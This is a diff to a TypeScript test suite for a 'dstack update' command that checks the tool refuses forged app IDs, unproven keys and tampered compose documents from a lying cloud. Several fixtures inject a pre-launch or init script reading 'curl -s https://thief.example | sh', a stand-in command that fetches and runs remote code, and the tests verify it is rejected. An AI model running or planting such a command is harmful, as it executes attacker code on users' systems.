@@ -6,6 +6,12 @@ import { secp256k1 } from "@noble/curves/secp256k1";
 import { expect } from "chai";
 import { bytesToHex, hexToBytes, sha256, stringToHex } from "viem";
 import { readAllowlist } from "../../../../../src/chain/read-app.ts";
+import { removeComposeHash } from "../../../../../src/chain/remove-compose-hash.ts";
+import { waitForReceipt } from "../../../../../src/chain/transactions/receipt.ts";
+import { getComposeFile } from "../../../../../src/cloud/get-compose-file.ts";
+import { getCvm } from "../../../../../src/cloud/get-cvm.ts";
+import { changeAppCompose } from "../../../../../src/core/app-compose.ts";
+import { computeComposeHash } from "../../../../../src/core/compose-hash.ts";
 import { hashEncryptionKeyStatement } from "../../../../../src/core/encryption-key-signature.ts";
 import { decryptEnvironment } from "../../../../../src/core/environment.ts";
 import { type AppId, type DeviceId, parseDeviceId } from "../../../../../src/core/ids.ts";
@@ -67,7 +73,8 @@ describe("dstack update, against a cloud that lies", () => {
   });
 
   const path = (name: string) => join(directory, name);
-  const withSecret = () => ({ compose: path("new.yml"), envFile: path(".env") });
+  const withUnnamedApp = () => ({ compose: path("new.yml"), envFile: path(".env") });
+  const withSecret = () => ({ ...withUnnamedApp(), app: appId });
 
   interface Setting {
     readonly lies?: readonly Lie[];
@@ -100,10 +107,10 @@ describe("dstack update, against a cloud that lies", () => {
   const head = () => world.chain.client.getBlockNumber({ cacheTime: 0 });
 
   /** Runs into a refusal before the cloud is asked to change anything, and before anything is paid. */
-  async function refused(name: string, args: Record<string, unknown>, setting: Setting = {}) {
+  async function refused(name: string, args: Record<string, unknown>, setting: Setting = {}, exitCode?: number) {
     const height = await head();
     const outcome = await run(args, setting);
-    expect(outcome.exitCode, outcome.stdout).to.be.oneOf([2, 4]);
+    expect(outcome.exitCode, outcome.stdout).to.be.oneOf(exitCode === undefined ? [2, 4] : [exitCode]);
     const { error } = outcome.json<{ error: { name: string; message: string; nextStep: string } }>();
     expect(error.name, error.message).to.equal(name);
     expect(changes()).to.deep.equal([]);
@@ -258,7 +265,7 @@ describe("dstack update, against a cloud that lies", () => {
       it(`refuses another app than the first from answer ${after + 1} on, where the user named it`, async () => {
         const lies = [{ path: detail, after, tell: namesOther() }];
         const config = { apps: { shop: { address: appId, cvm } } };
-        await refused("InvalidArgumentError", withSecret(), { lies, config });
+        await refused("InvalidArgumentError", withUnnamedApp(), { lies, config });
         await refused("InvalidArgumentError", { ...withSecret(), app: appId }, { lies });
         await refused("InvalidArgumentError", { ...withSecret(), app: "shop", cvm: undefined }, { lies, config });
       });
@@ -266,7 +273,150 @@ describe("dstack update, against a cloud that lies", () => {
 
     it("refuses another app for a CVM that is named by its app", async () => {
       const lies = [{ path: detail, tell: namesOther() }];
-      await refused("InvalidArgumentError", { ...withSecret(), cvm: `app_${appId.slice(2)}` }, { lies });
+      await refused("InvalidArgumentError", { ...withUnnamedApp(), cvm: `app_${appId.slice(2)}` }, { lies });
+    });
+
+    describe("where it is a thief's, at the same KMS", () => {
+      let thiefsApp: AppId;
+      before(async () => {
+        const thiefs = { owner: "0x9965507D1a55bcC2695C58ba16FB37d819B0A4dc", name: "thiefs-app" } as const;
+        const clients = { cloud: world.cloudClient, chain: world.ownerClient };
+        thiefsApp = (await launchCvm({ ...clients, ...thiefs, dockerCompose: compose("1") })).appId;
+      });
+      const lies = (): Lie[] => [
+        {
+          path: detail,
+          tell: (truth) => ({
+            ...truth,
+            app_id: thiefsApp.slice(2),
+            ...(truth.kms_info && { kms_info: { ...truth.kms_info, dstack_app_address: thiefsApp } }),
+          }),
+        },
+      ];
+
+      it("sends nothing where the user has named no app, and goes on where that is accepted by name", async () => {
+        const error = await refused("UnprovenEncryptionKeyError", withUnnamedApp(), { lies: lies() });
+        expect(cloud?.received).to.deep.equal([]);
+        for (const way of ["--app", "dstack.apps", "app_…", "--accept unproven-key"])
+          expect(error.nextStep).to.include(way);
+        const accepted = { ...withUnnamedApp(), accept: "unproven-key" };
+        expect((await done(accepted)).outcome).to.equal("confirmed");
+      });
+
+      for (const [what, entry, typed] of [
+        ["the address alone", {}, cvm],
+        ["the address and another CVM", { cvm: "another" }, cvm],
+        ["the CVM, called by its id", { cvm }, () => world.cvms.onChain?.id],
+        ["the CVM's id, called by its name", { cvm: () => world.cvms.onChain?.id }, cvm],
+      ] as const)
+        it(`sends nothing where the configuration names ${what}`, async () => {
+          const named = "cvm" in entry ? { cvm: typeof entry.cvm === "string" ? entry.cvm : entry.cvm() } : {};
+          const shop = { address: appId, ...named } as NonNullable<DstackUserConfig["apps"]>[string];
+          const args = { ...withUnnamedApp(), cvm: typeof typed === "string" ? typed : typed() };
+          for (const accept of [undefined, "unproven-key"]) {
+            await refused("InvalidArgumentError", { ...args, accept }, { lies: lies(), config: { apps: { shop } } });
+          }
+          await done(args, { config: { apps: { shop } } });
+        });
+
+      it("holds a CVM's other names against the entry that names it", async () => {
+        const apps = { shop: { address: appId, cvm }, other: { address: thiefsApp } };
+        const args = { ...withUnnamedApp(), cvm: world.cvms.onChain?.id };
+        await refused("InvalidArgumentError", args, { lies: lies(), config: { apps } });
+      });
+    });
+
+    it("takes an app id as --cvm for naming the app, beside a configuration of others", async () => {
+      const config = { apps: { other: { address: otherApp } } };
+      await refused("InvalidArgumentError", withUnnamedApp(), { config });
+      const result = await done({ ...withUnnamedApp(), cvm: `app_${appId.slice(2)}` }, { config });
+      expect(result).to.include({ keyProof: "kms-contract" });
+    });
+  });
+
+  describe("about the document", () => {
+    const injected = { pre_launch_script: "#!/bin/sh\ncurl -s https://thief.example | sh\n" };
+    const document = /^\/cvms\/[^/]+\/compose_file$/;
+    const adding = (extra: object): Lie => ({ path: document, tell: (truth) => ({ ...truth, ...extra }) });
+    /** Has the cloud ask for the hash in force or wanted to be allowed as this one. */
+    const registering = (hash: string): Lie => ({
+      method: "PATCH",
+      path: detail,
+      tell: (truth) =>
+        truth.details === undefined
+          ? truth
+          : {
+              ...truth,
+              compose_hash: hash,
+              details: truth.details.map((one: { field: string }) =>
+                one.field === "compose_hash" ? { ...one, value: hash } : one,
+              ),
+            },
+    });
+    const args = () => ({ compose: path("new.yml") });
+
+    for (const [what, extra] of [
+      ["a script that nobody asked for", injected],
+      ["a field that some forms of the hash leave out", { init_script: "curl -s https://thief.example | sh" }],
+      ["another compose file", { docker_compose_file: compose("evil") }],
+    ] as const)
+      it(`does not start from ${what}`, async () => {
+        const outcome = await run(args(), { lies: [adding(extra)] });
+        const { error } = outcome.json<{ error: { name: string; nextStep: string } }>();
+        expect(error.name).to.equal("UnprovenDocumentError");
+        expect(error.nextStep).to.include("Compare").and.to.include("--accept unproven-document");
+        expect(outcome.exitCode).to.equal(5);
+        expect(changes()).to.deep.equal([]);
+      });
+
+    it("does not allow a document that the cloud completes to match, and pays nothing", async () => {
+      const height = await head();
+      const current = await getComposeFile(world.cloudClient, { cvm });
+      const wanted = changeAppCompose({ ...current, ...injected }, { dockerCompose: compose("1.29") });
+      const hash = computeComposeHash(wanted).slice(2);
+      const outcome = await run(args(), { lies: [adding(injected), registering(hash)] });
+      expect(outcome.json<{ error: { name: string } }>().error.name).to.equal("UnprovenDocumentError");
+      expect(await head()).to.equal(height);
+    });
+
+    it("asks the app where the cloud wants the hash of an unchanged document allowed", async () => {
+      const height = await head();
+      const extra = { ...injected, allowed_envs: ["TOKEN", "GREETING"] };
+      const current = await getComposeFile(world.cloudClient, { cvm });
+      const hash = computeComposeHash({ ...current, ...extra }).slice(2);
+      const outcome = await run({ envFile: path(".env"), app: appId }, { lies: [adding(extra), registering(hash)] });
+      expect(outcome.json<{ error: { name: string } }>().error.name).to.equal("UnprovenDocumentError");
+      expect(await head()).to.equal(height);
+    });
+
+    it("says whose word it took, in the result and to people", async () => {
+      expect(await done(args())).to.deep.include({ documentProof: "allowlist", warnings: [] });
+      await world.restore(snapshot);
+      runs++;
+      const { stdout } = await run({ ...args(), json: false });
+      expect(stdout).to.match(/check current document +allowed by the app: 0x[0-9a-f]{64} \(form canonical\)/);
+    });
+
+    it("needs --accept unproven-document once the hash in force was removed", async () => {
+      const { composeHash } = await getCvm(world.cloudClient, { cvm, apiVersion: "2026-01-21" });
+      if (composeHash === undefined) throw new Error("The CVM has no hash.");
+      const functionName = "removeComposeHash";
+      const transactionHash = await removeComposeHash(world.ownerClient, { appId, composeHash });
+      await waitForReceipt(world.ownerClient, { transactionHash, functionName });
+      const error = await refused("UnprovenDocumentError", args(), {}, 5);
+      expect(error.nextStep).to.include("its hash was removed");
+      const result = await done({ ...args(), accept: "unproven-document" });
+      expect(result).to.include({ documentProof: "none" });
+      expect(result.warnings.join()).to.include("the cloud's word");
+    });
+
+    it("lints the document that it asks for, and no other", async () => {
+      // The linter would refuse an image from a variable; the second answer has one.
+      const variable = compose("$TOKEN");
+      const second: Lie = { path: document, after: 1, tell: (truth) => ({ ...truth, docker_compose_file: variable }) };
+      const outcome = await run({ envFile: path(".env"), app: appId }, { lies: [second] });
+      expect(cloud?.received.filter(({ url }) => url.endsWith("/compose_file"))).to.have.length(1);
+      expect(outcome.exitCode, outcome.stdout).to.equal(0);
     });
   });
 
@@ -285,10 +435,11 @@ describe("dstack update, against a cloud that lies", () => {
       encrypted_env_pubkey: thiefsKey,
     });
     const lies: Lie[] = [{ path: detail, tell: offChain }];
-    const accepted = () => ({ ...withSecret(), accept: "unproven-key" });
+    const accepted = () => ({ ...withUnnamedApp(), accept: "unproven-key" });
 
     it("refuses that there is none, where a network is named", async () => {
       await refused("KmsDowngradeError", withSecret(), { lies });
+      await refused("KmsDowngradeError", { ...withUnnamedApp(), cvm: `app_${appId.slice(2)}` }, { lies });
       await refused("KmsDowngradeError", accepted(), { lies });
       await refused("KmsDowngradeError", { compose: path("new.yml") }, { lies });
     });
@@ -322,10 +473,14 @@ describe("dstack update, against a cloud that lies", () => {
     });
 
     it("encrypts for a CVM without a contract only to a pinned key, or where unproven keys are accepted", async () => {
-      const args = { ...withSecret(), cvm: "offchain-app" };
-      await refused("UnprovenEncryptionKeyError", args, { network: null });
+      const args = { ...withUnnamedApp(), cvm: "offchain-app" };
+      const byApp = { ...args, cvm: `app_${world.cvms.offChain?.appId?.slice(2)}` };
+      for (const unproven of [args, byApp]) await refused("UnprovenEncryptionKeyError", unproven, { network: null });
       const kmsPublicKey = world.cloud.kmsPublicKey("kms-phala-1");
-      expect(await done(args, { network: null, config: { kmsPublicKey } })).to.include({ keyProof: "pinned-key" });
+      const pinned = { network: null, config: { kmsPublicKey } } as const;
+      const error = await refused("UnprovenEncryptionKeyError", args, pinned);
+      expect(error.nextStep).to.include("app_…");
+      expect(await done(byApp, pinned)).to.include({ keyProof: "pinned-key" });
       await world.restore(snapshot);
       runs++;
       expect(await done({ ...args, accept: "unproven-key" }, { network: null })).to.include({ keyProof: "none" });
